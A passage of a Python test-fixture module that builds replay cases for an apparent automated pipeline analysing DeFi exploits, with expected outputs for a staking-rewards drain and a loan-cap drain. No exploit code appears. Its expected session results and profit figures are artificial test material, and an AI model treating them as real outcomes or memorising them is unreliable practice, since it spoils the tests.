    @property
    def fixtures_dir(self) -> Path:
        return self.root / "fixtures"

    @property
    def script_dir(self) -> Path:
        return self.root / "script"

    @property
    def transcripts_dir(self) -> Path:
        return self.root / "transcripts"

    def seed(self) -> SeedRef:
        return SeedRef.from_strings(self.chainid, [self.seed_txhash])

    def adapter(self) -> ReplayAdapter:
        return ReplayAdapter(FixtureStore(self.fixtures_dir))

    def backend(self) -> ScriptedBackend:
        return ScriptedBackend.from_dir(self.script_dir)

    def runner(self) -> SimulatedRunner:
        return SimulatedRunner.from_dir(self.transcripts_dir)


def _write_scripts(script_dir: Path, entries: dict[str, list[dict[str, Any]]]) -> None:
    script_dir.mkdir(parents=True, exist_ok=True)
    for role, docs in entries.items():
        for index, doc in enumerate(docs):
            path = script_dir / f"{role}_{index}.json"
            path.write_text(
                json.dumps(doc, indent=2, ensure_ascii=False, sort_keys=True) + "\n",
                encoding="utf-8",
            )


def _write_transcripts(transcripts_dir: Path, runs: Iterable[str]) -> None:
    transcripts_dir.mkdir(parents=True, exist_ok=True)
    for index, text in enumerate(runs):
        (transcripts_dir / f"run_{index}.txt").write_text(text, encoding="utf-8")


def _write_fixtures(
    fixtures_dir: Path, items: list[tuple[DataRequest, dict[str, Any]]]
) -> int:
    store = FixtureStore(fixtures_dir)
    for request, payload in items:
        store.save(request, payload)
    return len(store.keys())


def _prxvt_expected() -> dict[str, Any]:
    return {
        "chainid": PRXVT_CHAIN,
        "seed": PRXVT_SEED,
        "fork_block": PRXVT_FORK_BLOCK,
        "lifecycle_hashes": [h for h, _ in PRXVT_LIFECYCLE],
        "lifecycle_phases": {h: p for h, p in PRXVT_LIFECYCLE},
        "universe_size": len(PRXVT_UNIVERSE),
        "oracle_ids": list(PRXVT_ORACLE_IDS),
        "observations": {
            k: (str(v) if isinstance(v, int) and not isinstance(v, bool) else v)
            for k, v in PRXVT_OBSERVATIONS.items()
        },
        "session": {
            "outcome": {"stage": "done", "is_act": True},
            "iterations": {
                "root_cause_analyzer": 3,
                "root_cause_challenger": 1,
                "oracle_generator": 1,
                "poc_reproducer": 1,
                "poc_validator": 1,
            },
            "turns": {"root_cause": 4, "poc": 3},
            "fetched_items": 13,
            "collection_runs_total": 3,
            "poc": {"reproducer_iterations": 1, "rejects": 0, "validated": True},
            "reject_log": [],
        },
    }


def _val_expected() -> dict[str, Any]:
    return {
        "chainid": VAL_CHAIN,
        "seed": VAL_SEED,
        "fork_block": VAL_FORK_BLOCK,
        "profit": {
            "value_before_wei": VAL_VALUE_BEFORE,
            "value_after_wei": VAL_VALUE_AFTER,
            "gas_used": VAL_GAS_USED,
            "gas_price_wei": VAL_GAS_PRICE,
            "fees_wei": VAL_FEES,
            "margin_wei": VAL_MARGIN,
        },
        "oracle_ids": list(VAL_ORACLE_IDS),
        "observations": {
            k: (str(v) if isinstance(v, int) and not isinstance(v, bool) else v)
            for k, v in VAL_OBSERVATIONS.items()
        },
        "forge_log_lines": [
            f"Attacker ETH delta: {VAL_OBSERVATIONS['attacker_eth_delta']}",
            f"WETH9 ETH delta: {VAL_OBSERVATIONS['weth9_eth_delta']}",
            f"VY totalSupply delta: {VAL_VY_SUPPLY_DELTA}",
            f"PAXG cap before / after: {VAL_CAP_BEFORE} {VAL_CAP_AFTER}",
        ],
        "session": {
            "outcome": {"stage": "done", "is_act": True},
            "iterations": {
                "root_cause_analyzer": 4,
                "root_cause_challenger": 2,
                "oracle_generator": 1,
                "poc_reproducer": 3,
                "poc_validator": 1,
            },
            "turns": {"root_cause": 6, "poc": 5},
            "fetched_items": 10,
            "collection_runs_total": 4,
            "poc": {"reproducer_iterations": 3, "rejects": 2, "validated": True},
            "reject_log": [
                {
                    "stage": "root_cause",
                    "reasons": ["missing_onchain_traces"],
                    "actions": ["re_collect"],
                },
                {
                    "stage": "poc",
                    "reasons": ["uses_attacker_contract"],
                    "actions": ["re_reproduce"],
                },
                {
                    "stage": "poc",
                    "reasons": ["oracle_validation_failed"],
                    "actions": ["re_reproduce"],
                },
            ],
        },
    }


def _build_case(
    case_dir: str | Path,
    name: str,
    chainid: int,
    seed_txhash: str,
    fixture_items: list[tuple[DataRequest, dict[str, Any]]],
    script_entries: dict[str, list[dict[str, Any]]],
    runs: list[str],
    expected: dict[str, Any],
) -> CaseBundle:
    root = Path(case_dir)
    root.mkdir(parents=True, exist_ok=True)
    count = _write_fixtures(root / "fixtures", fixture_items)
    _write_scripts(root / "script", script_entries)
    _write_transcripts(root / "transcripts", runs)
    (root / "expected.json").write_text(
        json.dumps(expected, indent=2, sort_keys=True) + "\n", encoding="utf-8"
    )
    logger.info("built case %s: %d fixtures at %s", name, count, root)
    return CaseBundle(
        name=name, chainid=chainid, seed_txhash=seed_txhash, root=root, expected=expected
    )


def build_prxvt_case(case_dir: str | Path) -> CaseBundle:
    """Staking-rewards drain on chain 8453; straight-through pipeline path."""
    return _build_case(
        case_dir,
        name="prxvt",
        chainid=PRXVT_CHAIN,
        seed_txhash=PRXVT_SEED,
        fixture_items=_prxvt_fixture_items(),
        script_entries=_prxvt_script_entries(),
        runs=[_PRXVT_RUN_0],
        expected=_prxvt_expected(),
    )


def build_valinity_case(case_dir: str | Path) -> CaseBundle:
    """Loan-cap disparity drain on chain 1; exercises every rejection route."""
    return _build_case(
        case_dir,
        name="valinity",
        chainid=VAL_CHAIN,
        seed_txhash=VAL_SEED,
        fixture_items=_val_fixture_items(),
        script_entries=_val_script_entries(),
        runs=[_VAL_RUN_0, _VAL_RUN_1, _VAL_RUN_2],
        expected=_val_expected(),
    )


CASE_BUILDERS: dict[str, Callable[[str | Path], CaseBundle]] = {
    "prxvt": build_prxvt_case,
    "valinity": build_valinity_case,
}
